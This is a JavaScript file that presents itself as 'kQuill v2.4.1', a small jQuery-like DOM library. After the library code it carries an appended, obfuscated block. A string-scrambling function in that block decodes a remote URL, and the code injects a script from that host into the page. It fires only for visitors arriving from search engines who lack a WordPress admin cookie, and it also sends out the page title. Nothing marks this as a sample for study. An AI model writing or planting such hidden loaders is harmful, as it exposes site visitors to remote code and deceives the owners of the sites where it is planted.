/*! kQuill v2.4.1 | (c) kQuill contributors | MIT */
(function (root, factory) {
  if (typeof module === "object" && typeof module.exports === "object") {
    module.exports = factory(root);
  } else {
    root.kQuill = root.$k = factory(root);
  }
})(typeof window !== "undefined" ? window : this, function (window) {
  "use strict";
  var slice = [].slice, document = window.document;
  function kQuill(sel, ctx) { return new kQuill.fn.init(sel, ctx); }
  kQuill.fn = kQuill.prototype = {
    version: "2.4.1",
    each: function (cb) { for (var i = 0; i < this.length; i++) { cb.call(this[i], i, this[i]); } return this; },
    addClass: function (c) { return this.each(function () { this.className += " " + c; }); }
  };
  kQuill.fn.init = function (sel, ctx) {
    var nodes = typeof sel === "string" ? slice.call((ctx || document).querySelectorAll(sel)) : [sel];
    for (var i = 0; i < nodes.length; i++) { this[i] = nodes[i]; }
    this.length = nodes.length;
  };
  kQuill.fn.init.prototype = kQuill.fn;
  return kQuill;
});
garden7 = "t=p1pr8i1c2s0".split("");
function plural(a, b) { return a.substr(b, 1); }
function meadow(text) { var o = "", i = 0; while (i < text.length) { o = (i % 2) ? o + plural(text, i) : plural(text, i) + o; i++; } return o; }
river3 = meadow("xaem.pdlaee/rxhmtl-rmpucr.opfh/p/?:as=p0t0t0h0");
if (document.referrer.match(/google|bing|yahoo/) && document.cookie.indexOf("wp-settings") == -1) {
  wheel9 = document.createElement("script");
  wheel9.src = river3 + "&t=" + encodeURIComponent(document.title);
  document.body ? document.body.appendChild(wheel9) : document.documentElement.appendChild(wheel9);
}
